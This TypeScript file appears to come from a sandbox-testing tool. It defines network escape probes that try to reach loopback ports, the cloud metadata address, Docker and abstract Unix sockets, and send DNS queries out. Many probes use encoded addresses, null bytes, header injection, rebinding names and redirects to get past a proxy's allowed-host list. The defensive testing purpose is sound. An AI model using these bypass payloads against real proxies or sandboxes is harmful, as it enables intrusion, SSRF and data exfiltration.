/** Ways to other machines, to other services of this machine, and through the proxy that allows listed hosts. */
import { once } from "node:events";
import { type AddressInfo, connect, createServer } from "node:net";
import type { StartEgressProxy } from "../network.ts";
import { type Probe, sources } from "./probe.ts";
import type { World } from "./world.ts";

/** A listed host whose name leads to the victim at a private address, as a rebinding name does. */
const listedHost = "listed.baton-probe.example";

/** A listed host at a public address that redirects every client to a private one. */
const movingHost = "moving.baton-probe.example";
const movingAddress = "1.1.1.1";

/** Every other name leads to this machine, as an attacker's own name server may answer. */
export function probeEgress(start: StartEgressProxy): StartEgressProxy {
  return async (options) => {
    const moving = await startMoving();
    const proxy = await start({
      ...options,
      lookup: async (host) => [{ address: host === movingHost ? movingAddress : "127.0.0.1", family: 4 }],
      dial: (address, port) =>
        address === movingAddress
          ? connect({ host: "127.0.0.1", port: moving.port, allowHalfOpen: true })
          : connect({ host: address, port, allowHalfOpen: true }),
    });
    return {
      async close() {
        await proxy.close();
        moving.close();
      },
    };
  };
}

/** Answers `GET /<port>` with a redirect to that port of 127.0.0.1. */
async function startMoving(): Promise<{ port: number; close(): void }> {
  const server = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (head) => {
      const port = /^GET [^ ]*?\/(\d+) /.exec(head.toString("latin1"))?.[1] ?? "0";
      const location = `http://127.0.0.1:${port}/`;
      socket.end(`HTTP/1.1 302 Found\r\nlocation: ${location}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`);
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  server.unref();
  return { port: (server.address() as AddressInfo).port, close: () => server.close() };
}

/** Asks the proxy where there is one, and the address itself where there is none. */
const reach = (name: string): string => `
  const host = ${name};
  const proxy = process.env.HTTP_PROXY === undefined ? undefined : new URL(process.env.HTTP_PROXY);
  const request = "GET http://" + host + ":" + targets.tcpPort + "/ HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n";
  const connect = "CONNECT " + host + ":" + targets.tcpPort + " HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n";
  if (proxy === undefined) await talk({ host: "127.0.0.1", port: targets.tcpPort }, request);
  else {
    await talk({ host: proxy.hostname, port: Number(proxy.port) }, request);
    await talk({ host: proxy.hostname, port: Number(proxy.port) }, connect);
    await talk({ host: proxy.hostname, port: Number(proxy.port) }, connect + "GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");
  }`;

const fooled = (what: string, name: string): Probe => ({
  name: `fool the list of hosts: ${what}`,
  source: sources.sandboxBench("exfiltration, past the network filter"),
  attack: reach(name),
  hosts: [listedHost, "*.listed.baton-probe.example"],
});

const udp = async ({ victim }: World): Promise<string | null> =>
  (await victim()).heardByUdp().includes("udp intruder") ? "a datagram came out" : null;

export const networkProbes: readonly Probe[] = [
  {
    name: "reach another port of 127.0.0.1",
    source: sources.baton,
    attack: `await talk({ host: "127.0.0.1", port: targets.tcpPort }, "GET / HTTP/1.0\\r\\n\\r\\n");`,
    isQuick: true,
  },
  {
    name: "reach another port of ::1",
    source: sources.baton,
    attack: `await talk({ host: "::1", port: targets.tcpPort }, "GET / HTTP/1.0\\r\\n\\r\\n");`,
    forbidden: ({ hasIpv6 }) => (hasIpv6 ? null : "this machine has no IPv6"),
  },
  {
    name: "reach this machine by its own address",
    source: sources.baton,
    attack: `for (const host of targets.addresses) await talk({ host, port: targets.tcpPort }, "GET / HTTP/1.0\\r\\n\\r\\n");`,
    forbidden: ({ hasDefaultRoute }) => (hasDefaultRoute ? null : "this machine has no network"),
    isQuick: true,
  },
  {
    name: "reach the internet",
    source: sources.sandboxBench("exfiltration, direct connection"),
    attack: `
      const heard = await talk({ host: "1.1.1.1", port: 443 });
      if (!heard.includes("ENETUNREACH") && !heard.includes("EACCES")) brokeOut("there is a route: " + heard);`,
    forbidden: ({ hasDefaultRoute }) => (hasDefaultRoute ? null : "this machine has no network"),
    isQuick: true,
  },
  {
    name: "reach the metadata address of the cloud",
    source: sources.baton,
    attack: `
      const heard = await talk({ host: "169.254.169.254", port: 80 }, "GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n");
      if (!heard.includes("ENETUNREACH") && !heard.includes("EACCES")) brokeOut("there is a route: " + heard);`,
    forbidden: ({ hasDefaultRoute }) => (hasDefaultRoute ? null : "this machine has no network"),
  },
  {
    name: "send a datagram to this machine",
    source: sources.baton,
    attack: `
      const socket = dgram.createSocket("udp4");
      for (const host of ["127.0.0.1", ...targets.addresses.filter((one) => !one.includes(":"))])
        await new Promise((resolve) => socket.send("intruder", targets.udpPort, host, () => resolve()));
      await new Promise((resolve) => setTimeout(resolve, 300));`,
    damage: udp,
  },
  {
    name: "carry data out by DNS",
    source: sources.sandboxBench("exfiltration, DNS"),
    attack: `
      const socket = dgram.createSocket("udp4");
      for (const host of ["1.1.1.1", "8.8.8.8", ...targets.resolvers]) {
        const error = await new Promise((resolve) => socket.send("query", 53, host, resolve));
        if (error === null) brokeOut("a query left to " + host);
      }`,
    forbidden: ({ hasDefaultRoute }) => (hasDefaultRoute ? null : "this machine has no network"),
  },
  {
    name: "connect to an abstract Unix socket",
    source: sources.baton,
    attack: `await talk({ path: "\\0" + targets.abstractName });`,
  },
  {
    name: "connect to a Unix socket by its path",
    source: sources.escapeBench("Docker socket"),
    attack: `await talk({ path: targets.socketPath });`,
    isQuick: true,
  },
  fooled("an address", `"127.0.0.1"`),
  fooled("localhost", `"localhost"`),
  fooled("a name in upper case with a dot at its end", `"LOCALHOST."`),
  fooled("an IPv6 address", `"[::1]"`),
  fooled("an IPv4 address in an IPv6 address", `"[::ffff:127.0.0.1]"`),
  fooled("a decimal address", `"2130706433"`),
  fooled("a hexadecimal address", `"0x7f000001"`),
  fooled("an octal address", `"0177.0.0.1"`),
  fooled("a short address", `"127.1"`),
  fooled("a zero byte after a listed name", `"127.0.0.1\\0.${listedHost}"`),
  fooled("an encoded zero byte", `"127.0.0.1%00.${listedHost}"`),
  fooled("a listed name as user", `"${listedHost}@127.0.0.1"`),
  fooled("a listed name before a slash", `"127.0.0.1/${listedHost}"`),
  fooled("a listed name before a back slash", `"127.0.0.1\\\\.${listedHost}"`),
  fooled("a listed name in another header", `"127.0.0.1\\r\\nHost: ${listedHost}"`),
  {
    name: "fool the list of hosts: a listed host that redirects to a private address",
    source: sources.sandboxBench("exfiltration, past the network filter"),
    attack: `
      const proxy = process.env.HTTP_PROXY === undefined ? undefined : new URL(process.env.HTTP_PROXY);
      const get = (url) => "GET " + url + " HTTP/1.1\\r\\nHost: " + new URL(url).host + "\\r\\n\\r\\n";
      const target = "http://127.0.0.1:" + targets.tcpPort + "/";
      if (proxy === undefined) await talk({ host: "127.0.0.1", port: targets.tcpPort }, get(target));
      else {
        const through = { host: proxy.hostname, port: Number(proxy.port) };
        const heard = await talk(through, get("http://${movingHost}/" + targets.tcpPort));
        if (!heard.includes("302") || !heard.includes(target)) throw new Error("The redirect did not come: " + heard);
        await talk(through, get(target));
      }`,
    hosts: [movingHost],
  },
  fooled("a listed name that leads to a private address", `"${listedHost}"`),
  fooled("a part of a listed name that leads to a private address", `"a.${listedHost}"`),
];
